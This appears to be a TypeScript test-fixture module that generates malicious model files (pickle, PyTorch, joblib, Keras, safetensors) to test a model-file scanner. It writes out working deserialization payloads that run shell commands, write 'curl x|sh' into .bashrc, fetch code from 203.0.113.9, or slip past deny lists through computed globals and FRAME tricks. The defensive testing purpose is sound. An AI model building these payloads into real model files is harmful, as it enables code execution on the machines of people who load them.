/**
 * Malicious files: every bypass style of issue 17 in several variants, and the styles the scanner
 * already knew. Each carries the severity a careful reviewer gives it: `critical` when loading it runs
 * code, starts a process, writes a file or opens a connection; `high` when it cannot be verified or
 * points at something inert but out of place in a model.
 */
import { gzipSync, strToU8, zipSync, zlibSync } from 'fflate';
import { maliciousPickle, PickleWriter, u64 } from '../fixtures/pickle-writer.js';
import { h5, npy } from '../fixtures/samples.js';
import { type CorpusFile, kerasConfigWith, kerasZip, type Label } from './files.js';
import { call, dict, dumps, float, global, type Py, tuple } from './pickler.js';
import {
  joblibArray,
  pipeline,
  standardScaler,
  torchLegacy,
  torchStateDict,
  torchZip,
} from './python-objects.js';

const te = new TextEncoder();

/** `module.name(*args)` via GLOBAL or STACK_GLOBAL and REDUCE. */
function gadget(module: string, name: string, args: Py[], protocol = 2): Uint8Array {
  return dumps(call(module, name, ...args), protocol);
}

/** The same call hidden inside a benign-looking structure (a dict of hyper-parameters). */
function gadgetInDict(module: string, name: string, args: Py[]): Uint8Array {
  return dumps(
    dict({ lr: float(0.001), epochs: 10, callback: call(module, name, ...args), tags: ['prod'] }),
    4,
  );
}

export function stdlibGadgets(): CorpusFile[] {
  const g = (path: string, data: Uint8Array, label: Label = 'critical') => ({
    path: `stdlib-gadgets/${path}`,
    data,
    label,
    category: 'stdlib gadget outside a deny list',
  });
  return [
    g('file-handler.pkl', gadget('logging', 'FileHandler', ['/home/user/.bashrc', 'a'])),
    g('rotating-handler.pkl', gadget('logging.handlers', 'RotatingFileHandler', ['/etc/cron.d/job', 'a'], 4)),
    g('timed-handler.pkl', gadgetInDict('logging.handlers', 'TimedRotatingFileHandler', ['/tmp/x.log'])),
    g('watched-handler.pkl', gadget('logging.handlers', 'WatchedFileHandler', ['/tmp/w.log', 'a'], 3)),
    g('syslog-handler.pkl', gadget('logging.handlers', 'SysLogHandler', [tuple('203.0.113.9', 514)], 4)),
    g('basic-config.pkl', gadget('logging', 'basicConfig', [], 2)),
    g(
      'dict-config.pkl',
      gadget(
        'logging.config',
        'dictConfig',
        [dict({ version: 1, handlers: dict({ h: dict({ '()': 'os.system', cmd: 'id' }) }) })],
        4,
      ),
    ),
    g('smtp.pkl', gadget('smtplib', 'SMTP', ['203.0.113.9', 25], 4)),
    g('ftp.pkl', gadget('ftplib', 'FTP', ['203.0.113.9'], 2)),
    g('imap-stream.pkl', gadget('imaplib', 'IMAP4_stream', ['sh -c id'], 4)),
    g('nntp.pkl', gadget('nntplib', 'NNTP', ['203.0.113.9'], 4)),
    g('pipepager.pkl', gadget('pydoc', 'pipepager', ['text', 'sh -c id'], 4)),
    g('uuid-command.pkl', gadget('uuid', '_get_command_stdout', ['sh', '-c', 'id'], 4)),
    g('platform-popen.pkl', gadget('platform', 'architecture', ['/bin/sh'], 4)),
    g('zipfile-write.pkl', gadget('zipfile', 'ZipFile', ['/home/user/.profile', 'w'], 4)),
    g('tarfile-open.pkl', gadget('tarfile', 'open', ['/tmp/x.tar', 'w'], 2)),
    g('sqlite-connect.pkl', gadget('sqlite3', 'connect', ['/home/user/.local/x.db'], 4)),
    g('shelve-open.pkl', gadget('shelve', 'open', ['/tmp/shelf'], 4)),
    g('gzip-open.pkl', gadget('gzip', 'open', ['/tmp/out.gz', 'wb'], 3)),
    g('urlopen.pkl', gadget('urllib.request', 'urlopen', ['http://203.0.113.9/beacon'], 4)),
    g('urlretrieve.pkl', gadgetInDict('urllib.request', 'urlretrieve', ['http://203.0.113.9/x', '/tmp/x'])),
    g('venv-create.pkl', gadget('venv', 'create', ['/tmp/venv'], 4)),
    g('ensurepip.pkl', gadget('ensurepip', 'bootstrap', [], 4)),
    g('site-addsitedir.pkl', gadget('site', 'addsitedir', ['/tmp/evil'], 4)),
    g(
      'path-write-text.pkl',
      dumps(
        call('pathlib', 'Path.write_text', call('pathlib', 'Path', '/home/user/.bashrc'), 'curl x|sh'),
        4,
      ),
    ),
    g('mailbox.pkl', gadget('mailbox', 'mbox', ['/tmp/mbox'], 4)),
    g(
      'socketserver.pkl',
      gadget(
        'socketserver',
        'TCPServer',
        [tuple('0.0.0.0', 4444), global('socketserver', 'BaseRequestHandler')],
        4,
      ),
    ),
    g('telnet.pkl', gadget('telnetlib', 'Telnet', ['203.0.113.9', 23], 4)),
    g('doctest-debug.pkl', gadget('doctest', 'debug_script', ['import os; os.system("id")'], 4)),
    g('dbm-open.pkl', gadget('dbm', 'open', ['/tmp/cache', 'c'], 4)),
    g('wave-open.pkl', gadget('wave', 'open', ['/tmp/x.wav', 'wb'], 2)),
    g(
      'py-compile.pkl',
      gadget('py_compile', 'compile', ['/tmp/x.py', '/usr/lib/python3/dist-packages/sitecustomize.pyc'], 4),
    ),
    g('lzma-file.pkl', gadget('lzma', 'LZMAFile', ['/tmp/x.xz', 'w'], 4)),
    g('bz2-file.pkl', gadgetInDict('bz2', 'BZ2File', ['/tmp/x.bz2', 'w'])),
    g(
      'spawnv-passfds.pkl',
      gadget('multiprocessing.util', 'spawnv_passfds', ['/bin/sh', ['sh', '-c', 'id'], tuple()], 4),
    ),
    g('zipapp.pkl', gadget('zipapp', 'create_archive', ['/tmp/src', '/tmp/app.pyz'], 4)),
    // Read files into the object (leaks data if the object is saved again): not code, still not a model's business.
    // Python 2 names the unpickler renames below protocol 3 (`dumbdbm` is `dbm.dumb`).
    g('py2-dumbdbm.pkl', gadget('dumbdbm', 'open', ['/tmp/db', 'c'], 2)),
    g(
      'py2-httpserver.pkl',
      gadget(
        'BaseHTTPServer',
        'HTTPServer',
        [tuple('0.0.0.0', 8000), global('SimpleHTTPServer', 'SimpleHTTPRequestHandler')],
        2,
      ),
    ),
    g('netrc-read.pkl', gadget('netrc', 'netrc', ['/home/user/.netrc'], 4), 'high'),
    g('mimetypes-read.pkl', gadget('mimetypes', 'read_mime_types', ['/etc/passwd'], 4), 'high'),
    // Inert when built, still not something a model file has any business importing.
    g('socket-handler.pkl', gadget('logging.handlers', 'SocketHandler', ['203.0.113.9', 9020], 4), 'high'),
    g('xmlrpc-proxy.pkl', gadget('xmlrpc.client', 'ServerProxy', ['http://203.0.113.9/'], 4), 'high'),
    g('http-connection.pkl', gadget('http.client', 'HTTPSConnection', ['203.0.113.9'], 4), 'high'),
    // Hidden inside a scikit-learn pipeline, as a step.
    g(
      'pipeline-step.joblib',
      dumps(
        pipeline([
          ['scale', standardScaler(2)],
          ['hook', call('logging', 'FileHandler', '/tmp/p', 'a')],
        ]),
        4,
      ),
    ),
  ];
}

/** Memo plus BUILD (or item opcodes) that change a module or class at load time. */
export function mutations(): CorpusFile[] {
  const m = (path: string, data: Uint8Array) => ({
    path: `mutation/${path}`,
    data,
    label: 'critical' as Label,
    category: 'memo + BUILD mutating a module',
  });
  // 1. A module object from the memo, its attribute replaced through BUILD's slot state.
  const w1 = new PickleWriter()
    .proto(4)
    .stackGlobal('collections', 'abc')
    .put(1)
    .op('POP')
    .get(1)
    .op('NONE')
    .op('EMPTY_DICT')
    .str('Mapping')
    .stackGlobal('builtins', 'dict')
    .op('SETITEM')
    .op('TUPLE2')
    .op('BUILD')
    .op('POP')
    .stackGlobal('collections.abc', 'Mapping')
    .op('STOP');
  // 2. A class's __init__ replaced, then the class called.
  const w2 = new PickleWriter()
    .proto(2)
    .global('uuid', 'UUID')
    .put(0)
    .op('NONE')
    .op('EMPTY_DICT')
    .str('__init__')
    .global('builtins', 'print')
    .op('SETITEM')
    .op('TUPLE2')
    .op('BUILD')
    .op('POP')
    .get(0)
    .str('x')
    .op('TUPLE1')
    .op('REDUCE')
    .stop();
  // 3. copyreg's extension registry filled with SETITEMS, then EXT1 resolving through it.
  const w3 = new PickleWriter()
    .proto(2)
    .global('copyreg', '_inverted_registry')
    .op('MARK')
    .int(240)
    .str('posix')
    .str('system')
    .op('TUPLE2')
    .op('SETITEMS')
    .op('POP')
    .op('EXT1', 240)
    .str('id')
    .op('TUPLE1')
    .op('REDUCE')
    .stop();
  // 4. The same through the memo, in protocol 4 with MEMOIZE.
  const w4 = new PickleWriter()
    .proto(4)
    .stackGlobal('copyreg', '_inverted_registry')
    .op('MEMOIZE')
    .op('POP')
    .get(0)
    .int(99)
    .str('os')
    .str('system')
    .op('TUPLE2')
    .op('SETITEM')
    .op('POP')
    .op('EXT1', 99)
    .str('id')
    .op('TUPLE1')
    .op('REDUCE')
    .stop();
  // 5. A Python class's method replaced through BUILD, then used.
  const w5 = new PickleWriter()
    .proto(2)
    .global('json.decoder', 'JSONDecoder')
    .put(0)
    .op('NONE')
    .op('EMPTY_DICT')
    .str('decode')
    .global('builtins', 'exec')
    .op('SETITEM')
    .op('TUPLE2')
    .op('BUILD')
    .op('EMPTY_TUPLE')
    .op('REDUCE')
    .stop();
  // 6. A module from the memo updated through BUILD with a dict state (`__dict__.update`).
  const w6 = new PickleWriter()
    .proto(4)
    .stackGlobal('json', 'decoder')
    .op('MEMOIZE')
    .op('EMPTY_DICT')
    .str('scanstring')
    .stackGlobal('builtins', 'eval')
    .op('SETITEM')
    .op('BUILD')
    .op('STOP');
  return [
    m('module-dict.pkl', w6.build()),
    m('module-attr.pkl', w1.build()),
    m('class-init.pkl', w2.build()),
    m('ext-registry.pkl', w3.build()),
    m('ext-registry-memo.pkl', w4.build()),
    m('class-reduce.pkl', w5.build()),
  ];
}

/** STACK_GLOBAL whose module/name strings come out of a call to an allowed function. */
export function computedGlobals(): CorpusFile[] {
  const c = (path: string, data: Uint8Array) => ({
    path: `computed-global/${path}`,
    data,
    label: 'critical' as Label,
    category: 'STACK_GLOBAL operands from an allowed function',
  });
  const viaStr = new PickleWriter()
    .proto(4)
    .stackGlobal('builtins', 'str')
    .op('MEMOIZE')
    .bytes_(te.encode('posix'))
    .str('ascii')
    .op('TUPLE2')
    .op('REDUCE')
    .get(0)
    .bytes_(te.encode('system'))
    .str('ascii')
    .op('TUPLE2')
    .op('REDUCE')
    .op('STACK_GLOBAL')
    .str('id')
    .op('TUPLE1')
    .op('REDUCE')
    .stop();
  const viaReconstructor = new PickleWriter()
    .proto(4)
    .stackGlobal('copyreg', '_reconstructor')
    .op('MEMOIZE')
    .stackGlobal('builtins', 'str')
    .op('MEMOIZE')
    .op('DUP')
    .str('subprocess')
    .op('TUPLE3')
    .op('REDUCE')
    .get(0)
    .get(1)
    .op('DUP')
    .str('getoutput')
    .op('TUPLE3')
    .op('REDUCE')
    .op('STACK_GLOBAL')
    .str('id')
    .op('TUPLE1')
    .op('REDUCE')
    .stop();
  const viaNewobj = new PickleWriter()
    .proto(4)
    .stackGlobal('builtins', 'str')
    .op('MEMOIZE')
    .str('o')
    .op('TUPLE1')
    .op('NEWOBJ')
    .op('POP')
    .get(0)
    .str('nt')
    .op('TUPLE1')
    .op('NEWOBJ')
    .get(0)
    .str('system')
    .op('TUPLE1')
    .op('NEWOBJ')
    .op('STACK_GLOBAL')
    .str('calc')
    .op('TUPLE1')
    .op('REDUCE')
    .stop();
  // Operands from a function that is not folded (codecs.decode rot13): unknown target, then called.
  const viaRot13 = new PickleWriter()
    .proto(4)
    .stackGlobal('codecs', 'decode')
    .op('MEMOIZE')
    .str('bf')
    .str('rot13')
    .op('TUPLE2')
    .op('REDUCE')
    .get(0)
    .str('flfgrz')
    .str('rot13')
    .op('TUPLE2')
    .op('REDUCE')
    .op('STACK_GLOBAL')
    .str('id')
    .op('TUPLE1')
    .op('REDUCE')
    .stop();
  // Module from the memo of an earlier, allowed import's string; name computed by str().
  const mixed = new PickleWriter()
    .proto(4)
    .str('os')
    .op('MEMOIZE')
    .op('POP')
    .get(0)
    .stackGlobal('builtins', 'str')
    .bytes_(te.encode('popen'))
    .str('latin1')
    .op('TUPLE2')
    .op('REDUCE')
    .op('STACK_GLOBAL')
    .str('id')
    .op('TUPLE1')
    .op('REDUCE')
    .stop();
  return [
    c('str-bytes.pkl', viaStr.build()),
    c('reconstructor.pkl', viaReconstructor.build()),
    c('newobj-str.pkl', viaNewobj.build()),
    c('rot13.pkl', viaRot13.build()),
    c('mixed.pkl', mixed.build()),
  ];
}

/** FRAME opcodes whose lengths disagree with the opcodes that follow. */
export function frames(): CorpusFile[] {
  const f = (path: string, data: Uint8Array) => ({
    path: `frame/${path}`,
    data,
    label: 'critical' as Label,
    category: 'FRAME lengths that disagree with the opcodes',
  });
  const body = () =>
    new PickleWriter()
      .stackGlobal('os', 'system')
      .op('MEMOIZE')
      .str('id')
      .op('TUPLE1')
      .op('REDUCE')
      .stop()
      .build();
  const payload = body();
  // Frame shorter than its content: the payload straddles the frame end.
  const short = new PickleWriter().proto(4).frame(5).raw(payload).build();
  // Frame longer than the file: the C unpickler stops, the pure-Python one (joblib, weights_only) reads on.
  const long = new PickleWriter()
    .proto(4)
    .frame(1 << 20)
    .raw(payload)
    .build();
  // A benign frame, then a second FRAME opened before the first one ended.
  const benign = new PickleWriter().op('EMPTY_DICT').op('MEMOIZE').build();
  const nested = new PickleWriter()
    .proto(4)
    .frame(benign.length + 20)
    .raw(benign)
    .op('POP')
    .frame(payload.length)
    .raw(payload)
    .build();
  // Frame of length 0 and the payload after it, unframed.
  const zero = new PickleWriter().proto(4).frame(0).raw(payload).build();
  // A correct-looking first frame that covers a decoy STOP; the real stream continues past it.
  const decoy = new PickleWriter().op('NONE').op('POP').build();
  const tail = new PickleWriter().proto(4).frame(decoy.length).raw(decoy).raw(payload).build();
  return [
    f('short-frame.pkl', short),
    f('long-frame.pkl', long),
    f('nested-frame.pkl', nested),
    f('zero-frame.pkl', zero),
    f('frame-then-unframed.pkl', tail),
  ];
}

/** Compressed pickles under compound names. */
export function compressed(): CorpusFile[] {
  const c = (path: string, data: Uint8Array) => ({
    path: `compressed/${path}`,
    data,
    label: 'critical' as Label,
    category: 'compressed pickle (.pkl.gz and friends)',
  });
  const evil = maliciousPickle(4, 'subprocess', 'check_output');
  const torchEvil = torchZip({ pickle: maliciousPickle(2), storages: [] });
  return [
    c('model.pkl.gz', gzipSync(evil)),
    c('model.pickle.gz', gzipSync(maliciousPickle(2))),
    c('model.joblib.gz', gzipSync(dumps(pipeline([['x', call('os', 'system', 'id')]]), 4))),
    c('weights.pt.gz', gzipSync(torchEvil)),
    c('model.pkl.z', zlibSync(evil)),
    c('archive.gz', gzipSync(maliciousPickle(3, 'builtins', 'exec'))),
    c('model-gzip.joblib', gzipSync(maliciousPickle(4, 'os', 'popen'))),
    c('double.pkl.gz.gz', gzipSync(gzipSync(maliciousPickle(2)))),
  ];
}

/** Keras layers that load an external SavedModel, and config-level gadget calls. */
export function kerasExternal(): CorpusFile[] {
  const k = (path: string, data: Uint8Array) => ({
    path: `keras-external/${path}`,
    data,
    label: 'critical' as Label,
    category: 'Keras layer loading an external SavedModel',
  });
  const tfsm = (filepath: string, module = 'keras.layers') => ({
    class_name: 'TFSMLayer',
    module,
    config: { name: 'tfsm', filepath, call_endpoint: 'serve', trainable: false },
    registered_name: null,
  });
  const hub = {
    class_name: 'KerasLayer',
    module: 'tensorflow_hub.keras_layer',
    config: { name: 'hub', handle: 'https://203.0.113.9/savedmodel', trainable: false },
  };
  return [
    k('tfsm.keras', kerasZip(kerasConfigWith(tfsm('/tmp/attacker_savedmodel')))),
    k('tfsm-relative.keras', kerasZip(kerasConfigWith(tfsm('../../shared/exported')))),
    k(
      'tfsm-src-module.keras',
      kerasZip(kerasConfigWith(tfsm('/mnt/models/sm', 'keras.src.export.tfsm_layer'))),
    ),
    k('tfsm.h5', h5(kerasConfigWith(tfsm('/srv/sm')))),
    k('hub-layer.keras', kerasZip(kerasConfigWith(hub))),
    k('hub-layer.h5', h5(kerasConfigWith(hub))),
    k(
      'get-file.keras',
      kerasZip(
        kerasConfigWith({
          class_name: 'Lambda',
          module: 'keras.layers',
          config: {
            name: 'fetch',
            function: {
              module: 'keras.utils',
              class_name: 'function',
              config: 'get_file',
              registered_name: 'function',
            },
            arguments: { origin: 'https://203.0.113.9/payload', fname: '/home/user/.bashrc' },
          },
        }),
      ),
    ),
    k(
      'unsafe-deserialization.keras',
      kerasZip(
        kerasConfigWith({
          class_name: 'Lambda',
          module: 'keras.layers',
          config: {
            name: 'flip',
            function: {
              module: 'keras.config',
              class_name: 'function',
              config: 'enable_unsafe_deserialization',
              registered_name: 'function',
            },
          },
        }),
      ),
    ),
  ];
}

/** safetensors with an impossible header length, or a header that is JSON but not an object. */
export function safetensorsHeaders(): CorpusFile[] {
  const s = (path: string, data: Uint8Array) => ({
    path: `safetensors/${path}`,
    data,
    label: 'high' as Label,
    category: 'safetensors header impossible or not an object',
  });
  const withHeader = (len: number | undefined, header: string, data = 16) => {
    const h = strToU8(header);
    return new Uint8Array([...u64(len ?? h.length), ...h, ...new Uint8Array(data)]);
  };
  const good = '{"w":{"dtype":"F32","shape":[2,2],"data_offsets":[0,16]}}';
  return [
    s('beyond-file.safetensors', withHeader(5000, good)),
    s('over-100mb.safetensors', withHeader(150_000_000, good)),
    s(
      'huge-u64.safetensors',
      new Uint8Array([0xff, 0xff, 0xff, 0xff, 0xff, 0xff, 0xff, 0x7f, ...strToU8(good)]),
    ),
    s('json-array.safetensors', withHeader(undefined, '[]', 16)),
    s('json-array-long.safetensors', withHeader(undefined, '[{"dtype":"F32"}, 1.5]', 8)),
    s('json-string.safetensors', withHeader(undefined, '"hello"', 8)),
    s('json-number.safetensors', withHeader(undefined, '1e99', 8)),
    s('json-null.safetensors', withHeader(undefined, 'null', 8)),
  ];
}

/** Bypass styles the scanner handled before issue 17, kept in the corpus so they stay handled. */
export function knownStyles(): CorpusFile[] {
  const k = (path: string, data: Uint8Array) => ({
    path: `known/${path}`,
    data,
    label: 'critical' as Label,
    category: 'earlier bypass styles',
  });
  const nested = new PickleWriter()
    .proto(3)
    .global('torch.storage', '_load_from_bytes')
    .bytes_(maliciousPickle(2))
    .op('TUPLE1')
    .op('REDUCE')
    .stop()
    .build();
  const concatenated = new Uint8Array([...dumps(dict({ a: 1 }), 2), ...maliciousPickle(2)]);
  const inst = new PickleWriter().op('MARK').string0('id').inst('subprocess', 'Popen').stop().build();
  const traversal = new PickleWriter()
    .proto(4)
    .stackGlobal('torch', 'serialization.os.system')
    .str('id')
    .op('TUPLE1')
    .op('REDUCE')
    .stop()
    .build();
  const joblibObject = dumps(dict({ model: joblibArray('O8', [1], [call('os', 'system', 'id')]) }), 4);
  return [
    k('nested-bytes.pkl', nested),
    k('concatenated.pkl', concatenated),
    k('renamed.txt', maliciousPickle(2, 'builtins', 'exec')),
    k('proto0-inst.pkl', inst),
    k('traversal.pkl', traversal),
    k('torch-evil.pt', torchZip({ pickle: maliciousPickle(2), storages: [] })),
    k(
      'hidden-entry.pt',
      zipSync(
        {
          'archive/data.pkl': torchStateDict([['w', 'FloatStorage', [2]]]).pickle,
          'archive/extra/notes.txt': maliciousPickle(4),
        },
        { level: 0 },
      ),
    ),
    k('object-array.npy', npy('|O', '(1,)', maliciousPickle(2))),
    k('joblib-object-array.joblib', joblibObject),
    k('legacy-torch.bin', torchLegacy({ pickle: maliciousPickle(2), storages: [] })),
  ];
}
